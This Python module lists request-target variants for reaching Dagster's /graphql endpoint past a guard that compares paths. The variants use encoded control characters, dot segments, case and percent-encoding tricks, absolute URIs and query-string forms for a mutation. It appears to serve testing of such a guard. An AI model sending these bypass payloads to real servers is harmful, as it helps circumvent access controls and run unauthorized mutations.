"""Request targets that could reach Dagster's `/graphql` past a guard that compares paths.

`<query>` stands for a mutation as a query string, `<host>` for the server's host and port.
"""

from typing import Final

_ENDINGS: Final = (
    *("%0a", "%0A", "%0d", "%0d%0a", "%0a%0a", "%0a/", "/%0a", "%00", "%00/", "%09", "%0b", "%0c"),
    *("%1c", "%1f", "%7f", "%20", "%c2%85", "%c2%a0", "%e2%80%a8", "%e2%80%a9", "%e2%80%8b"),
    *("%ef%bb%bf", "%ff", "%250a", "%2f", "%2F", "%252f", "%5c", "/", "//", "/.", "/./", "/..;/"),
    *(
        "/%2e",
        "/x/..",
        ";",
        ";a=b",
        ";/",
        "%3b",
        "%3f",
        "%23",
        "#",
        ".",
        "%2e",
        "%",
        "%zz",
        "%u000a",
    ),
    *("~", "*", "@", ":80", "/index", "..%0a", "%c0%8a", "%e0%80%8a"),
)
_BEGINNINGS: Final = (
    *("//graphql", "/./graphql", "/../graphql", "/x/../graphql", "/%2e/graphql", "/%2e%2e/graphql"),
    *("/%2fgraphql", "/%2Fgraphql", "%2fgraphql", "\\graphql", "/%5cgraphql", "/;/graphql"),
    *("/%0agraphql", "/%0a/graphql", "/%09/graphql", "/.%2fgraphql", "graphql", "///graphql%0a"),
    *("/%67raphql", "/%67%72%61%70%68%71%6c", "/%67%72%61%70%68%71%6c%0a", "/%2567raphql"),
    *("/GraphQL", "/GRAPHQL", "/graphQL%0a", "/graphqL/", "/graphq%4c", "/gr%61phql%0A"),
    *("/ｇraphql", "/graphql\u2028", "/vendor/../graphql", "/vendor/..%2fgraphql%0a"),
    *("http://<host>/graphql", "http://<host>/graphql%0a", "http://<host>//graphql"),
    *("http://evil.example/graphql", "http://evil.example/graphql%0a", "https://<host>/graphql"),
)
_QUERIES: Final = (
    *("/graphql??<query>", "/graphql?&<query>", "/graphql?a=b&<query>", "/graphql?query=x&<query>"),
    *("/graphql?<query>#", "/graphql?<query>&<query>", "/graphql%0a?query=x&<query>"),
    *("/graphql?%71uery=<encoded>", "/graphql%0a?%71uery=<encoded>", "/graphql%0A?a;b&<query>"),
    *("/graphql?query=%EF%BB%BF<encoded>", "/graphql%0a?query=%23%0a<encoded>"),
    "/?<query>",
    "/runs?<query>",
)

FORMS: Final = (
    *(f"/graphql{ending}?<query>" for ending in _ENDINGS),
    *(f"{beginning}?<query>" for beginning in _BEGINNINGS),
    *_QUERIES,
)
